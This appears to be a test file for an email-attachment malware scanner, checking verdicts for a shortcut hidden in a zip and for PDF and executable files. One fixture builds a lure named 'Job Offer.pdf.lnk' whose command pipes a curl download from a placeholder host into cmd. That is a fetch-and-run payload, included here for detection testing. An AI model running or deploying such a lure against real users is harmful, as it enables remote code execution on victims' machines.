"""`scan_bytes`, the function the mail guard calls for attachments: bytes in, one Verdict out."""

from __future__ import annotations

import io
import zipfile

from heistguard.artifacts.detectors.lnk_command import build_lnk
from heistguard.artifacts.scanner import Scanner, scan_bytes
from heistguard.intel.store import IntelStore


def test_lnk_attachment_in_a_zip_is_malicious(store: IntelStore) -> None:
    lnk = build_lnk(r"C:\Windows\System32\cmd.exe", "/c curl -s https://cdn.example.invalid/a | cmd")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr("Job Offer.pdf.lnk", lnk)
        zf.writestr("readme.txt", "Please open the offer.\n")
    verdict = scan_bytes("offer.zip", buffer.getvalue(), store=store)
    assert verdict.verdict == "malicious"
    (finding,) = [f for f in verdict.findings if f.rule_id == "artifacts.lnk-command"]
    assert finding.severity.value == "high"
    assert finding.evidence[0].location.path == "offer.zip!Job Offer.pdf.lnk"
    assert "cmd.exe" in finding.evidence[0].text


def test_plain_document_is_clean_and_a_scanner_is_reusable() -> None:
    scanner = Scanner()
    pdf = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n"
    assert scan_bytes("invoice.pdf", pdf, scanner=scanner).verdict == "clean"
    assert scan_bytes("invoice.pdf.exe", b"MZ" + b"\0" * 200, scanner=scanner).verdict == "suspicious"
    assert scan_bytes("invoice.pdf", b"MZ" + b"\0" * 200, scanner=scanner).verdict == "malicious"
